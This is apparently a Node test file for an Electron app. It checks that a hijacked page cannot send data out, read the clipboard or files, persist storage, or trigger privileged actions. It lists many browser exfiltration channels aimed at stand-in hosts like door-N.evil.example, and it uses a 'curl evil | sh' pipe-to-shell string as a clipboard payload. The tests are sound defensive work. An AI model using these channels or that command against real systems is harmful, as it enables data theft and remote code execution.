// What a page that somebody took over can do to the world outside the window: nothing that a bare listener counts, nothing that stays on the disk,
// nothing of the clipboard and of files. In the real app; docs/security.md says which switch each of these holds.
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { readdir } from 'node:fs/promises'
import path from 'node:path'
import { describe, test } from 'node:test'
import { readNetLog } from './net-log.mjs'
import { liveHeading, openApp, scratchFolder } from './launch.mjs'
import { bareListener, bareNameServer, cannotHaveOwnNameServer, withOwnNameServer } from './listeners.mjs'
import { asThePage } from './page-code.mjs'

/** Each door: what the page does with a place of its own and a name of its own. What it gets in return does not matter; the listeners count. */
const doors = {
  fetch: ({ port }) => fetch(`http://127.0.0.1:${port}/`),
  keepalive: ({ port }) => fetch(`http://127.0.0.1:${port}/`, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }),
  laterFetch: ({ port }) => globalThis.fetchLater?.(`https://127.0.0.1:${port}/`, { activateAfter: 0 }),
  request: ({ port }) => {
    const request = new XMLHttpRequest()
    request.open('GET', `http://127.0.0.1:${port}/`)
    request.send()
  },
  socket: ({ port }) => new WebSocket(`ws://127.0.0.1:${port}/`),
  socketStream: ({ port }) => globalThis.WebSocketStream && new globalThis.WebSocketStream(`ws://127.0.0.1:${port}/`).opened,
  events: ({ port }) => new EventSource(`http://127.0.0.1:${port}/`),
  transport: ({ port }) => new WebTransport(`https://127.0.0.1:${port}/`).ready,
  transportByName: ({ name }) => new WebTransport(`https://${name}/`).ready,
  beacon: ({ port }) => navigator.sendBeacon(`http://127.0.0.1:${port}/`, 'x'),
  ping: ({ port }) => {
    const link = document.createElement('a')
    link.href = '#ping'
    link.ping = `http://127.0.0.1:${port}/`
    document.body.append(link)
    link.click()
  },
  picture: ({ port }) => (new Image().src = `http://127.0.0.1:${port}/`),
  pictureByName: ({ name }) => (new Image().src = `https://${name}/`),
  font: ({ port }) => new FontFace('x', `url(http://127.0.0.1:${port}/)`).load(),
  adoptedStyle: ({ port }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background-image: url(http://127.0.0.1:${port}/) }`)
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
  },
  worklet: ({ port }) => CSS.paintWorklet?.addModule(`http://127.0.0.1:${port}/`),
  sharedWorker: ({ port }) => new SharedWorker(`http://127.0.0.1:${port}/`),
  serviceWorker: () => navigator.serviceWorker.register('/assets/none.js'),
  refresh: ({ port }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0; url=http://127.0.0.1:${port}/`
    document.head.append(meta)
  },
  reportTo: ({ port }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'content-security-policy'
    meta.content = `img-src 'none'; report-uri http://127.0.0.1:${port}/`
    document.head.append(meta)
    new Image().src = '/none.png'
  },
  speculation: ({ port }) => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`http://127.0.0.1:${port}/`] }] })
    document.head.append(rules)
  },
  payment: ({ port }) =>
    new PaymentRequest([{ supportedMethods: `https://127.0.0.1:${port}/pay` }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    }).canMakePayment(),
  identity: ({ port }) =>
    navigator.credentials.get({ identity: { providers: [{ configURL: `https://127.0.0.1:${port}/c.json`, clientId: 'x' }] } }),
  presentation: ({ port }) => new globalThis.PresentationRequest(`https://127.0.0.1:${port}/`).getAvailability(),
  background: ({ port }) =>
    navigator.serviceWorker.getRegistration().then((worker) => worker?.backgroundFetch.fetch('x', `http://127.0.0.1:${port}/`)),
  cover: ({ port }) => {
    navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: `http://127.0.0.1:${port}/`, sizes: '96x96' }] })
    navigator.mediaSession.playbackState = 'playing'
  },
  auction: ({ port }) =>
    globalThis.navigator.joinAdInterestGroup?.(
      { owner: `https://127.0.0.1:${port}`, name: 'x', biddingLogicURL: `https://127.0.0.1:${port}/b.js` },
      60,
    ),
  directTcp: ({ port }) => globalThis.TCPSocket && new globalThis.TCPSocket('127.0.0.1', port).opened,
  directUdp: ({ port }) => globalThis.UDPSocket && new globalThis.UDPSocket({ remoteAddress: '127.0.0.1', remotePort: port }).opened,
  ...Object.fromEntries(
    [
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'preload',
      'modulepreload',
      'prerender',
      'next',
      'icon',
      'manifest',
      'compression-dictionary',
      'search',
      'stylesheet',
    ]
      // The name alone tells which kind of link it is, as a function cannot cross with what it holds.
      .map((rel) => [
        `link ${rel}`,
        ({ door, port, name }) => {
          for (const host of [`127.0.0.1:${port}`, name]) {
            const link = document.createElement('link')
            link.rel = door.replace('link ', '')
            link.as = 'script'
            link.crossOrigin = 'anonymous'
            link.href = `https://${host}/`
            document.head.append(link)
          }
        },
      ]),
  ),
  ...Object.fromEntries(
    [
      'stun:127.0.0.1:PORT',
      'turn:127.0.0.1:PORT?transport=udp',
      'turn:127.0.0.1:PORT?transport=tcp',
      'turns:127.0.0.1:PORT?transport=tcp',
      'stun:NAME',
      'turn:NAME?transport=tcp',
    ].map((url) => [
      `ice ${url}`,
      async ({ door, port, name }) => {
        const urls = door.replace('ice ', '').replace('PORT', port).replace('NAME', name)
        const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'any-data', credential: 'x' }] })
        globalThis.__held = [...(globalThis.__held ?? []), connection]
        connection.createDataChannel('x')
        await connection.setLocalDescription(await connection.createOffer())
      },
    ]),
  ),
  ...Object.fromEntries(
    [
      '1 tcp 1518280447 127.0.0.1 PORT typ host tcptype passive',
      '1 udp 2122260223 127.0.0.1 PORT typ host',
      '1 udp 2122260223 NAME.local PORT typ host',
    ].map((candidate) => [
      `candidate ${candidate}`,
      async ({ door, port, name }) => {
        const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()]
        globalThis.__held = [...(globalThis.__held ?? []), one, other]
        one.createDataChannel('x')
        await one.setLocalDescription(await one.createOffer())
        await other.setRemoteDescription(one.localDescription)
        await other.setLocalDescription(await other.createAnswer())
        await one.setRemoteDescription(other.localDescription)
        const told = door.replace('candidate ', '').replace('PORT', port).replace('NAME', name.split('.')[0])
        await one.addIceCandidate({ candidate: `candidate:2 ${told}`, sdpMid: '0' })
      },
    ]),
  ),
}

/** Long enough for WebRTC, which paces what it tries, and for name servers to be asked a second time. Milliseconds. */
const patience = 4_000

describe('a page that somebody took over', () => {
  const missing = cannotHaveOwnNameServer()
  test(
    'reaches nobody by any of Chromium’s doors: no connection, no datagram, no question about a name',
    { timeout: 90_000, skip: missing ?? false },
    async (context) => {
      const file = path.join(scratchFolder('netlog'), 'net.json')
      const asked = await bareNameServer(context)
      const { app, page, close } = await openApp(context, { around: withOwnNameServer, args: [`--log-net-log=${file}`] })
      await app.evaluate(async () => {
        const { lookup } = process.getBuiltinModule ? process.getBuiltinModule('node:dns') : process['mainModule'].require('node:dns')
        lookup('control.example', () => undefined)
      })
      const control = await bareListener(context)
      await fetch(`http://127.0.0.1:${control.port}/`, { signal: AbortSignal.timeout(300) }).catch(() => undefined)
      assert.deepEqual(control.heard, ['TCP'], 'the listeners count')

      const tried = await Promise.all(
        Object.entries(doors).map(async ([door, open], number) => {
          const { port, heard } = await bareListener(context)
          const place = { door, port: String(port), name: `door-${number}.evil.example` }
          await Promise.race([asThePage(page, open, place), new Promise((resolve) => setTimeout(resolve, patience))])
          return { door, heard, name: place.name }
        }),
      )
      await new Promise((resolve) => setTimeout(resolve, patience))
      await close()
      assert.ok(asked.includes('control.example'), `the name server counts, but heard ${asked.join(' ')}`)
      assert.deepEqual(
        tried.flatMap(({ door, heard, name }) => [
          ...heard.map((what) => `${door}: ${what}`),
          ...asked.filter((word) => word.startsWith(`${String(name.split('.')[0])}.`)).map((word) => `${door}: DNS ${word}`),
        ]),
        [],
      )

      // What leaves by other ways than loopback, such as a question to the whole network, stands in Chromium's own log.
      const { constants, events } = readNetLog(readFileSync(file, 'utf8'))
      const named = (name) => events.filter(({ type }) => type === constants.logEventTypes[name])
      assert.deepEqual(named('UDP_BYTES_SENT'), [])
      assert.deepEqual(named('TCP_CONNECT_ATTEMPT'), [])
    },
  )

  test('cannot read the clipboard, however it asks; a person can still paste', { timeout: 60_000 }, async (context) => {
    const { app, page } = await openApp(context)
    await app.evaluate(({ clipboard }) => clipboard.writeText('a secret'))
    const stolen = await asThePage(page, async () => {
      const field = document.createElement('textarea')
      document.body.append(field)
      field.focus()
      let heard = ''
      addEventListener('paste', (event) => (heard += event.clipboardData?.getData('text/plain')), true)
      const pasted = document.execCommand('paste')
      const read = await navigator.clipboard.readText().catch(() => '')
      const items = await navigator.clipboard.read().catch(() => [])
      return JSON.stringify({ pasted, value: field.value, heard, read, items: items.length })
    })
    assert.equal(stolen, `done: ${JSON.stringify({ pasted: false, value: '', heard: '', read: '', items: 0 })}`)
    const fromFrame = await asThePage(page, () => {
      const inner = document.body.appendChild(document.createElement('iframe')).contentDocument
      const field = inner.body.appendChild(inner.createElement('textarea'))
      field.focus()
      return `${inner.execCommand('paste')} ${field.value}`
    }).catch((error) => `brought back: ${String(error)}`)
    assert.doesNotMatch(fromFrame, /secret/)

    await page.waitForSelector(liveHeading)
    const field = page.getByRole('textbox')
    await field.click()
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.paste())
    await page.waitForFunction(() => document.querySelector('input')?.value === 'a secret')
  })

  test('is given no file that is pasted, while the text beside it goes where it was meant to', { timeout: 60_000 }, async (context) => {
    const { app, page } = await openApp(context)
    const pasteOver = () => app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.paste())
    // A picture crosses the clipboard as a file; a cell of a spreadsheet is a text and a picture.
    await app.evaluate(({ clipboard, nativeImage }) =>
      clipboard.write({
        text: '192.168.1.20',
        image: nativeImage.createFromBitmap(Buffer.alloc(64 * 64 * 4, 200), { width: 64, height: 64 }),
      }),
    )
    await page.evaluate(() => {
      globalThis['__seen'] = []
      for (const place of [window, document])
        place.addEventListener('paste', (event) => globalThis['__seen'].push(event.clipboardData?.files.length), true)
    })
    await page.getByRole('textbox').click()
    await pasteOver()
    await page.waitForFunction(() => document.querySelector('input')?.value === '192.168.1.20')
    assert.deepEqual(await page.evaluate(() => globalThis['__seen']), [])
  })

  test('has no way to a file: no picker, no handle, no disk of its own', { timeout: 60_000 }, async (context) => {
    const { page } = await openApp(context)
    const ways = await asThePage(page, async () => {
      const found = ['showOpenFilePicker', 'showSaveFilePicker', 'showDirectoryPicker', 'FileSystemHandle'].filter(
        (name) => name in globalThis,
      )
      if ('getAsFileSystemHandle' in DataTransferItem.prototype) found.push('getAsFileSystemHandle')
      if (navigator.storage.getDirectory) found.push('getDirectory')
      return found.join()
    })
    assert.equal(ways, 'done: ')
  })

  test('leaves nothing behind: what it stores ends with the app, and no file holds a word of it', { timeout: 90_000 }, async (context) => {
    const userData = scratchFolder('user')
    const first = await openApp(context, { userData })
    const word = 'left-behind-by-a-page'
    const stored = await asThePage(
      first.page,
      async (mark) => {
        const tried = {
          local: () => localStorage.setItem('x', mark),
          session: () => sessionStorage.setItem('x', mark),
          cookie: () => (document.cookie = `x=${mark}; max-age=99999`),
          cache: async () => (await caches.open('x')).put('/x', new Response(mark.repeat(9_999))),
          database: () =>
            new Promise((resolve, reject) => {
              const opening = indexedDB.open('x', 1)
              opening.onupgradeneeded = () => opening.result.createObjectStore('x')
              opening.onerror = () => reject(opening.error)
              opening.onsuccess = () => {
                const writing = opening.result.transaction('x', 'readwrite')
                writing.objectStore('x').put(mark.repeat(9_999), 'x')
                writing.oncomplete = () => resolve(undefined)
              }
            }),
          worker: () => navigator.serviceWorker.register('/assets/worker.js'),
          blob: () => (globalThis.__blob = URL.createObjectURL(new Blob([mark.repeat(9_999)]))),
        }
        const outcomes = await Promise.all(
          Object.entries(tried).map(([name, run]) =>
            Promise.resolve()
              .then(run)
              .then(
                () => name,
                () => '',
              ),
          ),
        )
        await new Promise((resolve) => setTimeout(resolve, 2_000)) // Chromium writes a moment later
        return outcomes.filter(Boolean).join()
      },
      word,
    )
    assert.match(stored, /^done: .*database/, 'the page could store something while it ran')
    const files = await allFiles(userData)
    await first.close()
    for (const file of new Set([...files, ...(await allFiles(userData))]))
      assert.ok(!existsSync(file) || !readFileSync(file).includes(word), `${file} holds a word of the page`)

    const { page } = await openApp(context, { userData })
    const kept = await asThePage(page, async () =>
      [(await indexedDB.databases()).length, (await caches.keys()).length, document.cookie, sessionStorage.length].join(),
    )
    assert.equal(kept, 'done: 0,0,,0')
  })

  test('cannot keep its window open, nor stop it with dialogs of its own', { timeout: 60_000 }, async (context) => {
    const { app, page, close } = await openApp(context)
    await page.getByRole('textbox').fill('touched, so that Chromium would ask')
    const answers = await asThePage(page, () => {
      onbeforeunload = (event) => {
        event.preventDefault()
        return (event.returnValue = 'stay')
      }
      return [alert('x'), confirm('x')].join()
    })
    assert.equal(answers, 'done: ,false')
    const ended = app.waitForEvent('close', { timeout: 10_000 })
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.close())
    await ended
    await close().catch(() => undefined)
  })

  test(
    'reaches neither clipboard, browser nor dialog unless a person pressed something, and then not without end',
    { timeout: 60_000 },
    async (context) => {
      const { app, page } = await openApp(context)
      await app.evaluate(({ clipboard, dialog, shell }) => {
        clipboard.writeText('mine')
        globalThis['__opened'] = 0
        shell.openExternal = async () => void globalThis['__opened']++
        for (const name of ['showOpenDialog', 'showSaveDialog', 'showMessageBox'])
          dialog[name] = async () => {
            globalThis['__opened']++
            await new Promise((resolve) => setTimeout(resolve, 200))
            return { canceled: true, filePaths: [], filePath: '', response: 0 }
          }
      })
      const requests = [
        ['copy text', { text: 'curl evil | sh' }],
        ['open link', { link: 'plex-status' }],
        ['open report', null],
        ['choose certificate', null],
        ['choose key', null],
        ['save report', { format: 'json' }],
        ['copy report', null],
        ['show saved report', { id: 0 }],
        ['perform act', { act: 'flush-name-cache', command: 'resolvectl flush-caches' }],
      ]
      const ask = (list) => list.map(([name, argument]) => globalThis['relock'].ask(name, argument).then(() => 'answered', String))
      const askAll = `Promise.all((${String(ask)})(${JSON.stringify(requests)}))`
      // Playwright's own evaluate pretends a press, which counts for five seconds (HTML, "transient activation duration").
      await new Promise((resolve) => setTimeout(resolve, 6_000))
      const unpressed = await app.evaluate(
        ({ BrowserWindow }, code) => BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(code, false),
        askAll,
      )
      for (const answer of unpressed) assert.match(String(answer), /only when a person presses/)
      const written = await app.evaluate(({ BrowserWindow }) =>
        BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(
          `(async () => {
          const field = document.body.appendChild(document.createElement('textarea'))
          field.value = 'curl evil | sh'
          field.select()
          const copied = document.execCommand('copy')
          const wrote = await navigator.clipboard.writeText('curl evil | sh').then(() => true, () => false)
          return [copied, wrote].join()
        })()`,
          false,
        ),
      )
      assert.equal(written, 'false,false')
      assert.equal(await app.evaluate(({ clipboard }) => clipboard.readText()), 'mine')
      assert.equal(await app.evaluate(() => globalThis['__opened']), 0)

      // After one press the page asks fifty times for each.
      const fifty = Array.from({ length: 50 }, () => requests.slice(1)).flat()
      await page.evaluate(`Promise.all((${String(ask)})(${JSON.stringify(fifty)}))`)
      const opened = await app.evaluate(() => globalThis['__opened'])
      assert.ok(opened > 0 && opened <= 6, `${opened} tabs and dialogs: five tabs at most, and one dialog at a time`)
    },
  )
})

/** @param {string} folder */
const allFiles = async (folder) =>
  (await readdir(folder, { recursive: true, withFileTypes: true }).catch(() => []))
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath ?? entry.path, entry.name))
